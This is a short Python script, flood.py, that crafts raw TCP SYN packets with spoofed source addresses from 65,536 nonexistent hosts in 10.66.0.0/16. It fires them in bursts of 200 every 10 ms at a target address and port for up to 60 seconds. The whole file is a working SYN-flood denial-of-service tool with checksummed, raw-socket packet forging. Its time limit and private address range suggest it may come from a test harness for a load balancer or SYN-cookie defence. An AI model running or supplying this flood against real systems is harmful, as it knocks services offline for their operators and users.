"""flood.py VIP PORT: SYNs from 65,536 sources of 10.66.0.0/16 that are not there, 200 in 10 ms, until stdin is closed or 60 s
are over. Says "flooding" after the first 10,000; prints how many it sent."""
import random
import select
import socket
import struct
import sys
import time

VIP, PORT = sys.argv[1], int(sys.argv[2])
BURST, PAUSE_S, LIMIT_S = 200, 0.01, 60


def total(data):
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return value ^ 0xFFFF


def syn(number):
    source = socket.inet_aton(f"10.66.{number >> 8}.{number & 255}")
    vip = socket.inet_aton(VIP)
    segment = struct.pack(
        "!HHIIBBHHH", random.randrange(1024, 65536), PORT, random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0)
    check = total(source + vip + struct.pack("!HH", 6, len(segment)) + segment)
    segment = segment[:16] + struct.pack("!H", check) + segment[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, vip) + segment


packets = [syn(number) for number in range(1 << 16)]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent, end = 0, time.monotonic() + LIMIT_S
while time.monotonic() < end and not select.select([sys.stdin], [], [], PAUSE_S)[0]:
    for _ in range(BURST):
        raw.sendto(packets[sent % len(packets)], (VIP, 0))
        sent += 1
    if sent == 10_000:
        print("flooding", flush=True)
print(sent)
